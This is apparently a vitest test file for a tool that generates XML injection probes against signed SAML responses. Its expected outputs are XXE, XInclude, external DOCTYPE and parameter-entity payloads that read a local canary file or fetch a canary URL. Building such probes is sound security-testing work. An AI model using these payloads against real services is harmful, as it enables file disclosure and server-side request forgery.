import { expect, test } from 'vitest'
import { signedXml } from '../../sign/signed-xml.ts'
import { FACTS } from '../carry/post.sample.ts'
import { externalDocumentType, externalEntity, inclusion, parameterEntity } from './outside.ts'

const facts = {
  ...FACTS,
  canary: { url: 'http://c.test/1', file: 'file:///c/1.txt', certificate: '/c/1.pem' },
}
const XML = signedXml('<r><n>mallory</n></r>')

test.each([
  [
    externalEntity('{canary file}'),
    'read',
    '<!DOCTYPE samlp:Response [<!ENTITY user SYSTEM "file:///c/1.txt">]><r><n>&user;</n></r>',
  ],
  [
    externalEntity('{canary}'),
    'fetch',
    '<!DOCTYPE samlp:Response [<!ENTITY user SYSTEM "http://c.test/1">]><r><n>&user;</n></r>',
  ],
  [
    inclusion('{canary file}'),
    'read',
    '<r><n><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///c/1.txt" parse="text"/></n></r>',
  ],
  [externalDocumentType, 'fetch', `<!DOCTYPE samlp:Response SYSTEM "http://c.test/1">${XML}`],
  [parameterEntity, 'fetch', `<!DOCTYPE samlp:Response [<!ENTITY % outside SYSTEM "http://c.test/1">%outside;]>${XML}`],
] as const)('$title', (change, lures, text) => {
  expect(change.apply(XML, facts)).toBe(text)
  expect(change.lures).toBe(lures)
})

test('a message that does not name the marker holds no lure', () => {
  expect(() => inclusion('{canary}').apply(signedXml('<r>alice</r>'), facts)).toThrow(RangeError)
})
